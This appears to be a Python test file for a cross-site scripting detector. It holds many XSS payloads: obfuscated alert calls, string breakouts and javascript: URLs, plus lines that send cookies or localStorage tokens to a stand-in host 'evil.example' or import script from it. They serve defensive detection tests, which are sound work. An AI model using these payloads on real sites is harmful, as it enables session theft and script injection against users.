"""Cross-site scripting by JavaScript: code as a value, code after a string's end, URLs that are code."""

from __future__ import annotations

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from doorward.attacks.detectors.script import ScriptDetector
from doorward.attacks.evidence import Place, Value
from doorward.attacks.subject import Subject
from doorward.attacks.work import Work
from doorward.builders.rule_files import contents, rulebooks

DETECTOR = ScriptDetector(rulebooks(1)["script"])
PLENTY = 10**9
FILLER = "the quick brown fox jumps over a lazy dog and goes home " * 70
LEAST = 0.2


def subject(text: str, place: Place = Place.QUERY, *, is_name: bool = False) -> Subject:
    return Subject(text, Value(place, "q", text, is_name))


def found(text: str, place: Place = Place.QUERY, *, is_name: bool = False) -> dict[str, float]:
    """The rules that find something, with the weight of each."""
    asked = subject(text, place, is_name=is_name)
    if not DETECTOR.wants(asked):
        return {}
    return {evidence.rule: evidence.weight for evidence in DETECTOR.examine(asked, Work(PLENTY))}


def weight(text: str) -> float:
    return sum(found(text).values())


CALLS = {
    "plain": "alert(1)",
    "spaced": "alert ( 1 )",
    "with a comment": "alert/**/(document.domain)",
    "template": "prompt`1`",
    "in brackets": "(confirm)(1)",
    "in a list": "[alert][0](1)",
    "optional": "alert?.(document?.cookie)",
    "by call": "confirm.call(null,1)",
    "by apply": "alert.apply(null, [1])",
    "of the window": "window.alert(1)",
    "by a text": "window['alert'](1)",
    "by texts put together": "top['al'+'ert'](1)",
    "by expressions": "self[/al/.source+/ert/.source](1)",
    "by a number": "top[8680439..toString(30)](1)",
    "under another name": "a=alert,a(1)",
    "passed on": "[1].find(alert)",
    "thrown": "onerror=alert;throw 1",
    "evaluated": "eval('ale'+'rt(1)')",
    "decoded": "eval(atob('YWxlcnQoMSk='))",
    "function of a text": "new Function('alert(1)')()",
    "constructor": "[].constructor.constructor('alert(1)')()",
    "constructor with a template": "Set.constructor`alert(1)```",
    "constructor by texts": "[]['sort']['constructor']('alert(1)')()",
    "timer": "setTimeout('alert(1)')",
    "reflection": "Reflect.apply(alert,null,[1])",
    "import": "import('//evil.example/x.js')",
    "tagged template of a list": "[].sort.call`${alert}1`",
    "expression of a framework": "{{constructor.constructor('alert(1)')()}}",
    "end of a block": "}}};alert(1)//",
    "part of a template": "${alert(1)}",
}
STRINGS = {
    "single quote": "';alert(1);//",
    "double quote": '";alert(1);//',
    "minus": "'-alert(1)-'",
    "plus": "x'+prompt(1)+'y",
    "back-quote": "`-alert(1)-`",
    "escaped": "\\';alert(1)//",
    "call ended": "'); alert(1); ('",
    "object ended": '"}]};alert(1);//',
    "assignment": "';a=alert(1)//",
    "declaration": "'; var a = alert(1); var b='",
    "of the window": "';window.alert(1)//",
    "evaluation": "'+eval(name)+'",
    "secret": "'+document.cookie+'",
}
URLS = {
    "plain": "javascript:alert(1)",
    "mixed case": "JaVaScRiPt:alert(1)",
    "white space": " java\tscript:alert(1)",
    "comment": "javascript://%0aalert(1)",
    "unknown code": "javascript:fetch(a+b)",
    "of old": "vbscript:msgbox(1)",
    "document": "data:text/html,<script>x</script>",
    "document in Base64": "data:text/html;base64,PHNjcmlwdD4=",
}
OTHERS = {
    "cookie sent": "fetch('//evil.example/?'+document.cookie)",
    "picture": "new Image().src='//evil.example/'+localStorage.token",
    "elsewhere": "location='//evil.example'",
    "name as a page": "location=name",
    "page written": "document.write(1)",
    "page changed": "document.body.innerHTML=location.hash",
    "characters": "String.fromCharCode(88,83,83)",
    "property by a text": "document['cookie']",
    "symbols": "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]",
    "symbols of a list": "$=~[];$={___:++$}",
    "style": "background:url(javascript:alert(1))",
    "expression": "width: expression(alert(1))",
}


@pytest.mark.parametrize("name", CALLS)
def test_calls_as_a_value_are_conclusive(name: str) -> None:
    """Nothing but code, however what is called is spelled."""
    assert found(CALLS[name])["script.call"] == 1


@pytest.mark.parametrize("name", STRINGS)
def test_code_after_the_end_of_a_string_is_conclusive(name: str) -> None:
    """The value is put into a string of a script."""
    assert found(STRINGS[name])["script.out_of_string"] == 1


@pytest.mark.parametrize("name", URLS)
def test_urls_as_a_value_are_conclusive(name: str) -> None:
    """The value is put into a link."""
    assert max(found(URLS[name]).values()) == 1


@pytest.mark.parametrize("name", OTHERS)
def test_other_code_as_a_value_is_conclusive(name: str) -> None:
    """It sends, leads elsewhere, changes the page, or hides what it does."""
    assert max(found(OTHERS[name]).values()) == 1


def test_a_url_may_have_something_before_it() -> None:
    """As a path begins with a slash, and a value that ends an attribute with a quotation mark."""
    assert found("/javascript:alert(1)", Place.PATH)["script.script_url"] == 1
    assert found('" javascript:alert(1)')["script.script_url"] == 1
    assert "script.script_url" not in found("see javascript:alert(1)")


def test_the_name_of_a_member_is_code_only_as_a_name() -> None:
    """People look for it; nobody calls a parameter so."""
    assert found("document.cookie")["script.member"] < 1
    assert found("document.cookie", is_name=True)["script.member"] == 1


HONEST = {
    "question": "document.cookie is blocked by the CSP, why?",
    "book": "javascript: the good parts",
    "course": "JavaScript: Basics of JavaScript Language",
    "measures": "eval metrics: f1, recall",
    "sleep": "sleep(8) hours a day is healthy",
    "note": "please confirm (by mail) that you come",
    "label": "alert: high",
    "place": "location=Berlin",
    "players": "top [5] players of this year",
    "picture": "data:image/png;base64,iVBORw0KGgo=",
    "numbers": "data: 5, 6, 7",
    "lists": "ids[]=1, [[1, 2], [3]], matrix[i][j]",
    "function": "function add(a, b) { return a + b; }",
    "listener": "button.addEventListener('click', function (e) { console.log(e); });",
    "timer": "setTimeout(refresh, 1000)",
    "logger": "logger.alert('disk full')",
    "format of Python": "print('{}'.format(x))",
    "class": "constructor(props) { super(props); }",
    "agent": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "hints": '"Chromium";v="128", "Not;A=Brand";v="24"',
    "string and string": "\"this\" + 'that' (or parent)",
    "face": "(ﾟДﾟ) what is this (ﾟωﾟ)",
}


@pytest.mark.parametrize("name", HONEST)
def test_honest_values_are_no_evidence(name: str) -> None:
    """Words that code has too, and code of ordinary programs."""
    assert weight(HONEST[name]) < LEAST


TEXTS = {
    "name with a remark": "prompt (urgent)",
    "copy of a file": "prompt (2).txt",
    "name of a function": "confirm()",
    "question": "alert(1) pops up when I open the page, where does it come from?",
    "example": "When I call alert('Hello') in a handler the page waits until I close it, is that right?",
    "inline": "Use `eval('1 + 2')` for it; it's the same as `Function('return 1 + 2')()` in all of the browsers.",
    "token": "I keep the token in localStorage and send it with fetch('/api'), is that safe enough for us?",
    "program": "const a = window['b'](1);\nconst c = 2;\nfunction d() {\n  return location.hash;\n}\n",
}


@pytest.mark.parametrize("name", TEXTS)
def test_texts_about_code_are_not_conclusive(name: str) -> None:
    """Words around it, or many lines."""
    assert weight(TEXTS[name]) < 1


def test_an_end_of_a_string_weighs_less_in_a_text() -> None:
    """Where apostrophes are letters."""
    assert 0 < found(f"{FILLER} ';alert(1)//")["script.out_of_string"] < 1


def test_a_crowd_of_calls_is_conclusive_by_itself() -> None:
    """Nobody has to look at each of thousands: the work is bounded, and nothing hides behind them."""
    assert found("alert(a) " * 257)["script.crowd"] == 1
    assert "script.crowd" not in found("alert(a) " * 256)


HOSTILE = [
    "alert(", "alert (", "alert ", "'alert(", "'-alert(", '"-', "';", '"a" ', '\\"', "`", "/*", "/*/", "a.b.",
    "window.", "window[", "window['a'][", "[]", "![]+", "[a].", ".constructor", "function ", "setTimeout(",
    "onclick=alert;", "javascript:", "j\ta\tv", "ﾟωﾟ", "(ﾟ", "=~[]", "( ", "((((", "[[[[", "`${", "a`", "eval`",
    "location=", "import(", "reflect.", "x.call`", "a\n", "data:", "document.cookie ", "url(javascript ",
    "expression(", "x-x-alert(", " ",
]  # fmt: skip


class Counted(Work):
    """Counts, and does not stop."""

    def __init__(self) -> None:
        super().__init__(0)
        self.bound = PLENTY


@pytest.mark.parametrize("number", range(len(HOSTILE)))
def test_twice_the_text_costs_at_most_twice_the_work(number: int) -> None:
    """Also where it is made to be costly."""
    spent = []
    for size in (2_048, 4_096):
        work = Counted()
        list(DETECTOR.examine(subject(HOSTILE[number] * (size // len(HOSTILE[number]))), work))
        spent.append(work.spent)
    assert spent[1] <= 2.2 * spent[0]
    assert spent[1] <= 500 * 4_096


EXAMPLES = [text for rule in contents()["script"]["rule"] if "pattern" not in rule for text in rule["match"]]


@given(st.text(max_size=20), st.sampled_from([*EXAMPLES, *CALLS.values(), *OTHERS.values()]), st.text(max_size=20))
@example("", "java\x1fscript:x(1)", "")
@example("", "j\navascript:x=1", "")
@example("", "x.inner/**/HTML", "")
@example("_", "x.innerHTML=1", "")
@example("1", "localStorage", ".x")
def test_what_is_found_is_wanted(before: str, attack: str, after: str) -> None:
    """The screen is one-sided: it sees an attack in whatever stands around it."""
    text = subject(before + attack + after)
    if any(evidence.weight > 0 for evidence in DETECTOR.examine(text, Work(PLENTY))):
        assert DETECTOR.wants(text)


@given(
    st.lists(
        st.sampled_from([*"()[]`'\"=;,.: \n\t+-", "alert", "window", "a", "1", "/*", "*/", "//", "eval", "of"]),
        max_size=30,
    )
)
@example(["window", "[", "'", "a", "'", "]"])
@example([",", "eval", ")"])
def test_whatever_code_comes_there_is_a_result_and_it_was_wanted(tokens: list[str]) -> None:
    """No text makes it fail, and nothing is found that the screen would have hidden."""
    text = subject("".join(tokens))
    evidence = list(DETECTOR.examine(text, Work(PLENTY)))
    assert all(0 < item.weight <= 1 for item in evidence)
    assert not evidence or DETECTOR.wants(text)
